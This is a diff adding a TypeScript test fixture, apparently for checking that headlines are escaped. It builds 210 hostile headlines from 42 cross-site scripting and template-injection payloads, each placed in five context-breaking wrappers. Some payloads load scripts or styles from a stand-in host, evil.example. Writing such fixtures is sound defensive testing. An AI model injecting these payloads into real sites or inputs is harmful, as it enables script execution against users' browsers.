@@ -1,0 +1,57 @@
+/** Markup that would call `hit` if it came through as markup. */
+const PAYLOADS = [
+  '<script>hit()</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=hit()>',
+  '<img src="x" onerror="hit()"',
+  '<svg onload=hit()>',
+  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
+  '<svg><script>hit()</script></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
+  '<iframe srcdoc="<script>parent.hit()</script>">',
+  '<iframe src=javascript:parent.hit()>',
+  '<object data=javascript:hit()>',
+  '<embed src=javascript:hit()>',
+  '<body onload=hit()>',
+  '<details open ontoggle=hit()>',
+  '<input autofocus onfocus=hit()>',
+  '<video><source onerror=hit()></video>',
+  '<a href=javascript:hit()>open</a>',
+  '<a href="java&#10;script:hit()">open</a>',
+  '<form action=javascript:hit()><button>send</button></form>',
+  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
+  '<base href=//evil.example/>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<style>*{background:url(//evil.example/x)}</style>',
+  '<template><script>hit()</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
+  '<!--><script>hit()</script>-->',
+  '<![CDATA[<script>hit()</script>]]>',
+  '<?xml version="1.0"?><script>hit()</script>',
+  '<x contenteditable onblur=hit() tabindex=1 id=main>',
+  '<p style="animation:x" onanimationstart=hit()>',
+  '&lt;script&gt;hit()&lt;/script&gt;',
+  '&#60;script&#62;hit()&#60;/script&#62;',
+  '\u003cscript\u003ehit()\u003c/script\u003e',
+  '＜script＞hit()＜/script＞',
+  '[open](javascript:hit())',
+  '![x](x"onerror="hit())',
+  '[open]: javascript:hit()',
+  '<javascript:hit()>',
+  '`</code><script>hit()</script>`',
+  '${hit()}',
+  '{{constructor.constructor("hit()")()}}',
+  '<%= hit() %>',
+]
+
+/** What a headline may stand in, so that a payload would have to leave an element, an attribute, a style or a comment. */
+const SURROUNDINGS: ((payload: string) => string)[] = [
+  (payload) => payload,
+  (payload) => `">${payload}`,
+  (payload) => `'>${payload}<b a='`,
+  (payload) => `</title></style></textarea></script>${payload}`,
+  (payload) => `Port reopens\u2028${payload}\u0000\u202e${payload}`,
+]
+
+/** 210 headlines of our own that try to become markup, in HTML and in markdown. */
+export const hostileHeadlines: string[] = PAYLOADS.flatMap((payload) => SURROUNDINGS.map((surround) => surround(payload)))
